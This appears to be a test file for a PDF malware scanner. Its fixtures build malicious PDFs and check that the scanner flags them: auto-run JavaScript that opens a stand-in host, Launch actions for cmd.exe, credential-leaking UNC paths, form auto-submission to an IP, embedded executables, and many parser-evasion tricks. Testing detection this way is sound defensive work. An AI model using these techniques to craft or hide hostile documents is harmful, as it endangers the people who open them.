import { deflateSync } from "node:zlib"
import { describe, expect, it } from "vitest"
import { makePdf } from "../pdf/MakePdf.ts"
import { rate } from "./Rate.ts"

const call = "app.launchURL('http://call.example/home')"
const script = `<</S/JavaScript/JS(${call})>>`

const pdf = (objects: string): Uint8Array =>
  Buffer.from(`%PDF-1.7\n${objects}\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n`, "latin1")
const catalog = (entries: string, objects = ""): Uint8Array =>
  pdf(`1 0 obj<</Type/Catalog${entries}>>endobj\n${objects}`)
const stream = (number: number, entries: string, content: string): string =>
  `${number} 0 obj<<${entries}/Length ${content.length}>>stream\n${content}\nendstream\nendobj\n`
const deflated = (content: string): string => deflateSync(Buffer.from(content, "latin1")).toString("latin1")
const contained = `1 0 <</Type/Catalog/OpenAction${script}>>`

describe("a script that runs when the document opens", () => {
  it.each([
    ["the second of two entries with one key holds", catalog(`/OpenAction null/OpenAction${script}`)],
    [
      "a comment stands in the head of its object",
      pdf(`1 %x\n0 %y 7\n obj<</Type/Catalog/OpenAction${script}>>endobj`)
    ],
    [
      "a comment holds another number",
      pdf(`2 0 obj 1 endobj 1 0 %7 0\nobj<</Type/Catalog/OpenAction${script}>>endobj`)
    ],
    ["the word for the end of an object stands in it", catalog(`/X endobj/OpenAction${script}`)],
    ["numbers have signs and zeros", catalog("/OpenAction +00000000000002 +0 R", `2 0 obj${script}endobj`)],
    [
      "a later object has its number",
      catalog("/OpenAction<</S/JavaScript/JS 5 0 R>>", `5 0 obj(${call})endobj 5 0 obj(1;)endobj`)
    ],
    [
      "another generation has its number",
      catalog("/OpenAction<</S/JavaScript/JS 5 0 R>>", `5 0 obj(${call})endobj 5 1 obj(1;)endobj`)
    ],
    [
      "its filter has the key of inline images",
      catalog("/OpenAction<</S/JavaScript/JS 5 0 R>>", stream(5, "/F/Fl", deflated(call)))
    ],
    ["its filter is unknown", catalog("/OpenAction<</S/JavaScript/JS 5 0 R>>", stream(5, "/Filter/Foo", call))],
    ["its object stream has an unknown filter", pdf(stream(9, "/Type/ObjStm/N 1/First 4/Filter/Foo", contained))],
    ["its object stream has no type", pdf(stream(9, "/N 1/First 4", contained))],
    ["its object stream has another type", pdf(stream(9, "/Type/XObject/N 1/First 4", contained))],
    [
      "numbers of an object stream have signs",
      pdf(stream(9, "/Type/ObjStm/N 1/First 6", contained.replace("1 0 ", "+1 +0 ")))
    ],
    [
      "its object stream has the key of inline images",
      pdf(stream(9, "/N 1/First 4/F/FlateDecode", deflated(contained)))
    ]
  ])("is found if %s", (_, bytes) => {
    expect(rate(bytes)).toEqual(["block", "JAVASCRIPT"])
  })
})

it("finds an unencrypted script in an encrypted file", () => {
  const locked = Buffer.from(makePdf({ 1: "<</Type/Catalog/OpenAction 7 0 R>>" }, "encrypted object streams"))
  const scriptOf = (filter: string) =>
    rate(Buffer.concat([
      locked,
      Buffer.from(`7 0 obj<</S/JavaScript/JS 8 0 R>>endobj\n${stream(8, filter, call)}`, "latin1")
    ]))
  expect(scriptOf("/Filter[/Crypt]/DecodeParms[<</Name/Identity>>]")).toEqual(["block", "JAVASCRIPT"])
  expect(scriptOf("/Filter/Crypt")).toEqual(["block", "JAVASCRIPT"])
  // The next two scripts are marked as encrypted but are not, so decrypting them yields no script.
  expect(scriptOf("/Filter/Crypt/DecodeParms<</Name/StdCF>>")).toEqual(["warn", "JAVASCRIPT"])
  expect(scriptOf("")).toEqual(["warn", "JAVASCRIPT"])
})

describe("another action", () => {
  it.each([
    ["where the second of two kinds holds", "LAUNCH_ACTION", catalog("/OpenAction<</S/GoTo/S/Launch/F(cmd.exe)>>")],
    [
      "where a former object says what it is",
      "LAUNCH_ACTION",
      catalog("/OpenAction<</S 5 0 R/F(cmd.exe)>>", "5 0 obj/Launch endobj 5 0 obj/GoTo endobj")
    ],
    [
      "where the pointer crosses a place",
      "AUTO_ACTION",
      catalog("", "2 0 obj<</Subtype/Widget/Rect[0 0 600 800]/AA<</E<</S/URI/URI(http://call.example)>>>>>>endobj")
    ],
    [
      "where a script is stored as a picture",
      "OBFUSCATED_OBJECT",
      catalog("/OpenAction<</S/JavaScript/JS 5 0 R>>", stream(5, "/Filter/DCTDecode", "x"))
    ],
    [
      "where objects are stored as a picture",
      "OBFUSCATED_OBJECT",
      catalog("", stream(5, "/Type/ObjStm/Filter/DCTDecode", "x"))
    ]
  ])("%s", (_, code, bytes) => {
    expect(rate(bytes)).toEqual(["block", code])
  })

  it("is found if a link has two addresses or its address is defined twice", () => {
    const link = (action: string) => catalog("", `2 0 obj<</Type/Annot/Subtype/Link/A<</S/URI${action}>>>>endobj`)
    const bad = "(http://192.0.2.7/a.exe)"
    for (const action of [`/URI(https://fine.example)/URI${bad}`, `/URI${bad}/URI(https://fine.example)`]) {
      expect(rate(link(action)), action).toEqual(["block", "SUSPICIOUS_LINK"])
    }
    const two = catalog(
      "",
      `2 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI 5 0 R>>>>endobj 5 0 obj${bad}endobj 5 0 obj(https://fine.example)endobj`
    )
    expect(rate(two)).toEqual(["block", "SUSPICIOUS_LINK"])
  })
})

describe("a catalog that is a direct object in the trailer", () => {
  const inTrailer = (catalog: string, objects = ""): Uint8Array =>
    Buffer.from(`%PDF-1.7\n${objects}trailer<</Root<</Type/Catalog${catalog}>>>>\nstartxref\n0\n%%EOF\n`, "latin1")
  const inTable = (catalog: string, objects = ""): Uint8Array =>
    Buffer.from(
      `%PDF-1.7\n${objects}${stream(9, `/Type/XRef/Size 1/W[1 1 1]/Root<</Type/Catalog${catalog}>>`, "\0\0\0")}%%EOF\n`,
      "latin1"
    )
  const pages = "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R>>endobj "
  const xfa = "/AcroForm<</XFA 4 0 R>>"
  const form = stream(4, "", "<xdp><event activity=\"docReady\"><submit target=\"http://192.0.2.7/\"/></event></xdp>")

  it.each([["trailer", inTrailer], ["cross-reference stream", inTable]] as const)("is read in a %s", (where, made) => {
    expect(rate(made("/OpenAction<</S/Launch/F(cmd.exe)>>"))).toEqual(["block", "LAUNCH_ACTION"])
    expect(rate(made(`/Pages 2 0 R/OpenAction${script}`, pages))).toEqual(["block", "JAVASCRIPT"])
    expect(rate(made(`/Names<</JavaScript<</Names[(a)${script}]>>>>`))).toEqual(["block", "JAVASCRIPT"])
    expect(rate(made("/AA<</WC<</S/GoToR/F(\\\\\\\\call.example\\\\a.pdf)>>>>"))).toEqual([
      "block",
      "CREDENTIAL_LEAK_PATH"
    ])
    expect(rate(made("/#4fpenAction<</S/Launch/F(cmd.exe)>>"))[0], where).toBe("block")
    expect(rate(made(xfa, form))).toEqual(["block", "AUTO_ACTION"])
    const attached = "/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>]>>>>"
    expect(rate(made(attached, stream(5, "", "MZ")))).toEqual(["block", "EMBEDDED_EXECUTABLE"])
  })

  it("is found in any trailer and reported", () => {
    const first = Buffer.from(inTrailer("/OpenAction<</S/Launch/F(cmd.exe)>>"))
    const both = Buffer.concat([first, Buffer.from("1 0 obj<</Type/Catalog>>endobj trailer<</Root 1 0 R>>")])
    expect(rate(both)).toEqual(["block", "LAUNCH_ACTION"])
    expect(rate(Buffer.from("%PDF-1.7\n trailer<</Root 1 0 R>>"))[0]).toBe("unreadable")
  })

  it("is ordinary if it contains no actions", () => {
    expect(rate(inTrailer("/Pages 2 0 R/OpenAction[3 0 R/Fit]", pages))[0]).toBe("ok")
    expect(rate(inTable("/Pages 2 0 R", pages))[0]).toBe("ok")
  })
})

describe("a similar but harmless document is not an evasion", () => {
  it.each([
    ["a page number in a comment", pdf("%1 0 page\n1 0 obj<</Type/Catalog>>endobj")],
    ["a title that was changed", catalog("/T 5 0 R", "5 0 obj(Draft)endobj 5 0 obj(Letter)endobj")],
    [
      "a jump that was changed",
      catalog("/OpenAction 5 0 R", "5 0 obj<</S/GoTo/D(a)>>endobj 5 0 obj<</S/GoTo/D(b)>>endobj")
    ],
    ["a color profile", catalog("", stream(5, "/N 3/Filter/FlateDecode", deflated("profile")))],
    ["a tip that is shown", catalog("", "2 0 obj<</Subtype/Widget/AA<</E<</S/Hide/T(tip)/H false>>>>>>endobj")],
    [
      "a link that stands twice",
      catalog("", "2 0 obj<</A<</S/URI/URI(https://a.example)/URI(https://a.example)>>>>endobj")
    ]
  ])("%s", (_, bytes) => {
    expect(rate(bytes)[0]).toBe("ok")
  })
})
